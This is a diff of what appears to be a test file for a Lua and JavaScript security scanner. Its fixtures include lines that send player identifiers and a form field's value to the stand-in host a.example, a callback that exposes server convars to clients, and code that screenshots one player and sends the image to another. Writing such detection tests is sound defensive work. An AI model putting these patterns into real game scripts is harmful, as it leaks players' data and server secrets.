@@ -115,6 +115,25 @@ end`),
 ^navigator.sendBeacon('https://a.example', value.get.call(field))`,
       'page',
     ),
+    lua(`local defaults = { hud_unit = 'kmh', hud_map = 'circle' }
+local function read(name)
+^ return GetConvar(name, defaults[name] or '')
+end
+lib.callback.register('hud:all', function()
+  local all = {}
+  for name in pairs(defaults) do all[name] = read(name) end
+  return all
+end)
+lib.callback.register('hud:setting', function(_, name) return read(name) end)`),
+    lua(`local function capture(player, done)
+  exports['screenshot-basic']:requestClientScreenshot(player, {}, function(_, picture) done(picture) end)
+end
+RegisterNetEvent('report', function(player)
+  local src = source
+  capture(player, function(picture)
+^   TriggerLatentClientEvent('report:preview', src, 9000, picture)
+  end)
+end)`),
     lua(`local ids = GetPlayerIdentifiers(source)
 ^PerformHttpRequest('https://a.example', print, 'POST', table.concat(ids))`),
     lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
